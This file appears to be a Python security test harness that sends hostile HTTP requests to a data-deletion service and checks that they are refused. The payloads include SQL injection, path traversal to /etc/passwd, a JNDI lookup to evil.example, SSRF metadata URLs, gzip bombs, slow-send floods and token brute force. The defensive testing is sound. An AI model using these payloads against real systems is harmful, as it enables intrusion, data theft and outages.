"""Bad and hostile requests, each with what may come back.

An attack gives one outcome for each try: ``STATUS code``, ``closed`` or ``no answer``. Unless it
says otherwise it may only be refused: 4xx, or the connection closed. All that would be a deletion,
were it not for the attack, names a sample that lives, so what gets through is seen in the state.
"""

from __future__ import annotations

import gzip
import itertools
import json
import socket
import statistics
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from benchmarks.serving.besieged import Besieged
from tests.harness.routes import ROUTES

__all__ = ["ATTACKS", "Attack"]

Outcomes = Iterator[str]
LIVING = "digit-0007"
"""A sample of the run that is not deleted."""
JSON = "Content-Type: application/json"


@dataclass(frozen=True)
class Attack:
    """One kind of hostile input.

    Attributes:
        group: what it is about.
        name: in words.
        send: tries it, in all its variants.
        also: beginnings of outcomes that are right besides refusals.
    """

    group: str
    name: str
    send: Callable[[Besieged], Outcomes]
    also: tuple[str, ...] = ()

    def allows(self, outcome: str) -> bool:
        """Whether an outcome is what it should be."""
        refused = outcome.startswith("4") or outcome.startswith("closed")
        return refused or outcome.startswith(self.also)


ATTACKS: list[Attack] = []


def attack(group: str, name: str, *also: str) -> Callable[..., Callable[[Besieged], Outcomes]]:
    """Put an attack on the list."""

    def put(send: Callable[[Besieged], Outcomes]) -> Callable[[Besieged], Outcomes]:
        ATTACKS.append(Attack(group, name, send, also))
        return send

    return put


def deletion(**more: object) -> bytes:
    return json.dumps({"sample_ids": [LIVING], **more}).encode()


def _post(site: Besieged, body: bytes, *lines: str, path: str = "/v1/deletions") -> str:
    lines = lines or (JSON,)
    return site.raw([site.head("POST", path, *lines, f"Content-Length: {len(body)}") + body])


# ── bodies ───────────────────────────────────────────────────────────────────────────────────


@attack("bodies", "too large, and saying so")
def _(site: Besieged) -> Outcomes:
    for size in (2**20 + 1, 2**31, 2**63, 10**30):
        yield site.raw([site.head("POST", "/v1/deletions", JSON, f"Content-Length: {size}")])


@attack("bodies", "too large, in chunks")
def _(site: Besieged) -> Outcomes:
    head = site.head("POST", "/v1/deletions", JSON, "Transfer-Encoding: chunked")
    chunk = b"10000\r\n" + b" " * 0x10000 + b"\r\n"
    yield site.raw([head, *itertools.repeat(chunk, 200), b"0\r\n\r\n"])


@attack("bodies", "lengths that are none, or two")
def _(site: Besieged) -> Outcomes:
    body = deletion()
    for lines in (
        ("Content-Length: -1",),
        ("Content-Length: 0x20",),
        ("Content-Length: 1", "Content-Length: 200"),
        (f"Content-Length: {len(body)}", "Transfer-Encoding: chunked"),
        ("Transfer-Encoding: chunked, identity",),
        ("Transfer-Encoding: xchunked",),
        ("Content-Length: +5",),
    ):
        yield site.raw([site.head("POST", "/v1/deletions", JSON, *lines) + body], wait=8)


@attack("bodies", "shorter than they say, and then silence")
def _(site: Besieged) -> Outcomes:
    yield site.raw([site.head("POST", "/v1/deletions", JSON, "Content-Length: 500") + b"{"])


@attack("bodies", "a byte at a time")
def _(site: Besieged) -> Outcomes:
    head = site.head("POST", "/v1/deletions", JSON, "Content-Length: 500")
    yield site.raw([head, *(b" " for _ in range(60))], pause=0.2)


@attack("bodies", "200 connections that send a header line now and then", "200")
def _(site: Besieged) -> Outcomes:
    links = [socket.create_connection((site.host, site.port), timeout=20) for _ in range(200)]
    try:
        for line in (b"GET /healthz HTTP/1.1\r\n", b"Host: x\r\n", b"X: y\r\n"):
            for link in links:
                link.sendall(line)
            started = time.monotonic()
            outcome = site.asked("GET", "/v1/status")
            slow = time.monotonic() - started > 2
            yield "no answer to others in time" if slow else outcome
    finally:
        for link in links:
            link.close()


@attack("JSON", "100,000 brackets deep")
def _(site: Besieged) -> Outcomes:
    for body in (b"[" * 100_000, b'{"a":' * 100_000, b'{"rows": ' + b"[" * 500 + b"]" * 500 + b"}"):
        yield _post(site, body)
        yield _post(site, body, path="/v1/predict")


@attack("JSON", "100,000 keys, or values, wide")
def _(site: Besieged) -> Outcomes:
    keys = json.dumps({f"k{number}": 0 for number in range(60_000)}).encode()
    for path in ("/v1/deletions", "/v1/predict"):
        yield _post(site, keys, path=path)
        yield _post(site, b'{"rows": [' + b"0," * 200_000 + b"0]}", path=path)
    yield _post(site, json.dumps({"sample_ids": [f"x{n}" for n in range(900)]}).encode())


@attack("JSON", "numbers of many digits, or none")
def _(site: Besieged) -> Outcomes:
    for number in (b"9" * 5000, b"-" + b"1" * 300_000, b"1e999", b"NaN", b"Infinity", b"-Infinity"):
        yield _post(site, b'{"sample_ids": [' + number + b"]}")
        yield _post(site, b'{"rows": [[[' + number + b"]]]}", path="/v1/predict")


@attack("JSON", "a key twice")
def _(site: Besieged) -> Outcomes:
    yield _post(site, b'{"dry_run": true, "sample_ids": ["digit-0007"], "dry_run": false}')
    yield _post(site, b'{"sample_ids": [], "sample_ids": ["digit-0007"]}')


@attack("JSON", "bytes that are no UTF-8")
def _(site: Besieged) -> Outcomes:
    for bad in (b"\xff", b"\xc0\xaf", b"\xed\xa0\x80", b"\xf8\x88\x80\x80\x80"):
        yield _post(site, b'{"sample_ids": ["digit-0007' + bad + b'"]}')
    yield _post(site, deletion().decode().encode("utf-16"))
    yield _post(site, b"\xef\xbb\xbf" + deletion())


@attack("JSON", "of other kinds than objects, and unknown keys")
def _(site: Besieged) -> Outcomes:
    for body in (b"", b"null", b"[]", b"0", b'"x"', b"true", b"{}", b"{'a': 1}", deletion(x=1)):
        yield _post(site, body)
    for key in ("__class__", "__proto__", "constructor", "$where", "Sample_Ids"):
        yield _post(site, json.dumps({"sample_ids": [LIVING], key: {}}).encode())


@attack("JSON", "said to be something else")
def _(site: Besieged) -> Outcomes:
    for kind in ("text/plain", "application/xml", "multipart/form-data; boundary=x", "", "x"):
        yield _post(site, deletion(), f"Content-Type: {kind}")
    form = "Content-Type: application/x-www-form-urlencoded"
    yield _post(site, b"sample_ids=digit-0007", form)


@attack("JSON", "a gzip bomb")
def _(site: Besieged) -> Outcomes:
    body = gzip.compress(b" " * 10**8)
    yield _post(site, body, JSON, "Content-Encoding: gzip")


# ── heads ────────────────────────────────────────────────────────────────────────────────────


@attack("heads", "too many, or too long")
def _(site: Besieged) -> Outcomes:
    lines = [f"X-{number}: {'y' * 50}" for number in range(5000)]
    yield site.raw([site.head("GET", "/v1/status", *lines)])
    yield site.raw([site.head("GET", "/v1/status", "X: " + "y" * 200_000)])
    yield site.raw([site.head("GET", "/" + "a" * 200_000)])
    yield site.raw([b"GET / HTTP/1.1\r\n" + b"X: y\r\n" * 200_000])


@attack("heads", "bytes that are no head")
def _(site: Besieged) -> Outcomes:
    for text in (
        b"\0" * 100 + b"\r\n\r\n",
        b"GET\r\n\r\n",
        b"GET /v1/status\r\n\r\n",
        b"GET /v1/status HTTP/9.9\r\n\r\n",
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n",
        b"GET /v1/status HTTP/1.1\r\nHost: x\r\nX\0: y\r\n\r\n",
        b"GET /v1/status HTTP/1.1\r\nHost: x\r\nA: b\nAuthorization: Bearer x\r\n\r\n",
        b"GET /v1/status HTTP/1.1\r\n : y\r\n\r\n",
        b"GET http://evil.example/v1/status HTTP/1.1\r\nHost: evil.example\r\n\r\n",
        b"CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example\r\n\r\n",
    ):
        yield site.raw([text], wait=8)


# ── names ────────────────────────────────────────────────────────────────────────────────────

NAMES = (
    "' OR '1'='1",
    "digit-0007' --",
    "'; DROP TABLE samples; --",
    "digit-000_",
    "digit-%",
    "*",
    "a\0b",
    "digit-0007\0",
    "digit-0007\n",
    "digit-0007\r\nX: y",
    " digit-0007",
    "DIGIT-0007",
    "\u202e7000-tigid",
    "digit\u20100007",
    "\ufeffdigit-0007",
    "x" * 4096,
    "x" * 500_000,
    "\\ud800",
    "../../ledger.db",
    "/etc/passwd",
    "%2e%2e%2f",
    "${jndi:ldap://evil.example/x}",
    "{{7*7}}",
    "%s%s%n",
    "<script>alert(1)</script>",
    "\x1b[2J\x1b[31mERROR",
)


@attack("names", "hostile sample ids and subjects")
def _(site: Besieged) -> Outcomes:
    for name in NAMES:
        yield _post(site, json.dumps({"sample_ids": [name]}).encode())
        yield _post(site, json.dumps({"sample_ids": [LIVING], "subjects": [name]}).encode())
    yield _post(site, b'{"sample_ids": ["\\ud800"]}')
    yield _post(site, b'{"sample_ids": ["digit-0007", "\\udfff\\ud800"]}')


@attack("names", "hostile request ids")
def _(site: Besieged) -> Outcomes:
    fair = {"DIGIT-0007", "digit-000_"}  # good names for a request
    for name in (*(one for one in NAMES if one not in fair), "", ".", "..", "a/b", "a b"):
        yield _post(site, deletion(subject_request_id=name))
    for name in ("../x", "a/b", "\xff", "x" * 201, ""):
        yield _post(site, deletion(), JSON, f"Idempotency-Key: {name}")


@attack("names", "other kinds of identities")
def _(site: Besieged) -> Outcomes:
    for kind, form in (("email", "raw"), ("controller_customer_id", "md5"), ("x" * 9999, "raw")):
        one = {"identity_type": kind, "identity_value": "p", "identity_format": form}
        yield _post(site, json.dumps({"subject_identities": [one]}).encode())


@attack("paths", "out of the service's own folder")
def _(site: Besieged) -> Outcomes:
    up = ("../", "..%2f", "%2e%2e/", "%2e%2e%2f", "..\\", "..%5c", "%252e%252e%252f", "....//")
    for step, base in itertools.product(up, ("/page/", "/v1/deletions/", "/")):
        for target in ("tokens.json", "ledger.db", "etc/passwd"):
            outcome = site.raw([site.head("GET", f"{base}{step * 6}{target}")])
            yield "200 leaked" if outcome.startswith("200") else outcome
    for path in (
        "//etc/passwd",
        "/page/%00",
        "/page/index.html%00.png",
        "/v1/deletions/%00",
        "/%ff",
    ):
        yield site.raw([site.head("GET", path)])
    for query in ("../../x", "1;2", "9" * 999, "-1", "1e9", "NaN", ""):
        yield site.raw([site.head("GET", f"/v1/log?limit={query}")])


# ── tokens ───────────────────────────────────────────────────────────────────────────────────


@attack("tokens", "every route with the wrong role, none, or a wrong token")
def _(site: Besieged) -> Outcomes:
    for method, path, roles in ROUTES:
        for role in {"predict", "delete", "audit", "repair"} - roles:
            outcome = site.asked(method, path, role, body=deletion())
            yield outcome if outcome.startswith("403") else f"NOT REFUSED {outcome}"
        for role in (None, "s3t_delete_" + "0" * 48):
            outcome = site.asked(method, path, role, body=deletion())
            yield outcome if outcome[:3] in ("401", "429") else f"NOT REFUSED {outcome}"


@attack("tokens", "1,000 guesses from one address")
def _(site: Besieged) -> Outcomes:
    for number in range(1000):
        yield site.asked("POST", "/v1/deletions", f"s3t_delete_{number:048x}", body=deletion())


@attack("tokens", "a right one all the while", "200")
def _(site: Besieged) -> Outcomes:
    yield site.asked("GET", "/v1/status", "audit")


@attack("tokens", "written in other ways")
def _(site: Besieged) -> Outcomes:
    right = site.tokens["audit"]
    for header in (
        f"Authorization: Basic {right}",
        f"Authorization: {right}",
        f"Authorization: Bearer {right}x",
        f"Authorization: Bearer {right[:-1]}",
        f"Authorization: Bearer {right.upper()}",
        f"Authorization: Bearer {right}, Bearer {right}",
        f"Authorization: Bearer {right}\r\nAuthorization: Bearer x",
        f"Cookie: Authorization=Bearer {right}",
        f"X-Authorization: Bearer {right}",
        f"Proxy-Authorization: Bearer {right}",
    ):
        yield site.raw([site.head("GET", "/v1/status", header, role=None)])
    yield site.raw([site.head("GET", f"/v1/status?access_token={right}", role=None)])


def timing(site: Besieged, rounds: int) -> dict[str, float]:
    """Median microseconds of a refusal, by how much of the token was right."""
    right = site.tokens["audit"]
    wrong = {
        "none of it right": "x" * len(right),
        "half of it right": right[: len(right) // 2] + "x" * (len(right) - len(right) // 2),
        "all but one letter right": right[:-1] + ("0" if right[-1] != "0" else "1"),
    }
    taken: dict[str, list[float]] = {name: [] for name in wrong}
    for _ in range(rounds):
        for name, token in wrong.items():
            started = time.perf_counter()
            site.ask("GET", "/v1/status", token)
            taken[name].append(1e6 * (time.perf_counter() - started))
    return {name: round(statistics.median(values), 1) for name, values in taken.items()}


# ── methods ──────────────────────────────────────────────────────────────────────────────────


@attack("methods", "every one on every route")
def _(site: Besieged) -> Outcomes:
    for method in ("PUT", "PATCH", "DELETE", "TRACE", "OPTIONS", "PROPFIND", "post", "GETX"):
        for path in sorted({path for _, path, _ in ROUTES}):
            yield site.raw([site.head(method, path, "Content-Length: 0")])
    for method in ("PUT", "DELETE"):
        override = f"X-HTTP-Method-Override: {method}"
        yield _post(site, b"{}", JSON, override)


# ── rows ─────────────────────────────────────────────────────────────────────────────────────


@attack("rows", "paths and addresses where an image should be")
def _(site: Besieged) -> Outcomes:
    for text in ("/etc/passwd", "file:///etc/passwd", "http://127.0.0.1/", "ledger.db", "data:,x"):
        for row in (text, {"image": text}, [text], [[text]], {"image": {"path": text}}):
            yield _post(site, json.dumps({"rows": [row]}).encode(), path="/v1/predict")


@attack("rows", "arrays that are no image", "200")
def _(site: Besieged) -> Outcomes:
    for row in (
        [],
        [[]],
        [[[]]],
        [1, 2],
        [[1, 2], [3]],
        [[1, "2"]],
        [[None]],
        [[-1]],
        [[256]],
        [[1.5]],
        [[1e308]],
        [[[[1]]]],
        [[0] * 100_000],
        [[0]] * 100_000,
        [[[0] * 7]],
        {"image": None},
        {},
        None,
        True,
    ):
        yield _post(site, json.dumps({"rows": [row]}).encode(), path="/v1/predict")
    yield _post(site, json.dumps({"rows": [[[0]]] * 10_000}).encode(), path="/v1/predict")


# ── callbacks ────────────────────────────────────────────────────────────────────────────────


@attack("callbacks", "to addresses that nobody has named")
def _(site: Besieged) -> Outcomes:
    for url in (
        "http://169.254.169.254/latest/meta-data/",
        "https://169.254.169.254/",
        "https://metadata.google.internal/",
        "http://127.0.0.1:22/",
        "https://127.0.0.1/",
        "https://[::1]/",
        "https://[::ffff:169.254.169.254]/",
        "https://2130706433/",
        "https://0x7f000001/",
        "https://0177.0.0.1/",
        "https://127.1/",
        "https://localhost.evil.example/",
        "https://localhost@evil.example/",
        "https://evil.example#localhost",
        "https://evil.example\\@localhost/",
        "https://localhost:1/",
        "http://localhost/",
        "https://localhost/\r\nX: y",
        "file:///etc/passwd",
        "gopher://localhost/",
        "//localhost/",
        "",
        "x" * 3000,
    ):
        yield _post(site, deletion(status_callback_urls=[url]))


# ── others meanwhile ─────────────────────────────────────────────────────────────────────────


@attack("others", "are answered within 2 s while large bodies are refused", "200")
def _(site: Besieged) -> Outcomes:
    large = (
        ("/v1/deletions", b'{"sample_ids": [' + b"0," * 500_000 + b"0]}"),
        ("/v1/deletions", b'{"subject_identities": [' + b"{}," * 330_000 + b"{}]}"),
        ("/v1/deletions", json.dumps({f"k{number}": 0 for number in range(60_000)}).encode()),
        ("/v1/deletions", b'{"x": [' + b"[]," * 330_000 + b"[]]}"),
        ("/v1/completions", b'{"prompt": [' + b"0," * 500_000 + b"0]}"),
        ("/v1/predict", b'{"rows": [' + b"0," * 500_000 + b"0]}"),
        ("/v1/predict", b'{"rows": [[[' + b"0," * 500_000 + b"0]]]}"),
    )
    for path, body in large:
        sending = threading.Thread(target=site.asked, args=("POST", path), kwargs={"body": body})
        sending.start()
        longest, outcome = 0.0, ""
        while sending.is_alive():
            started = time.monotonic()
            outcome = site.asked("GET", "/healthz", None)
            longest = max(longest, time.monotonic() - started)
            time.sleep(0.01)
        sending.join()
        yield outcome if longest < 2 else f"{path}: others waited for {longest:.1f} s"
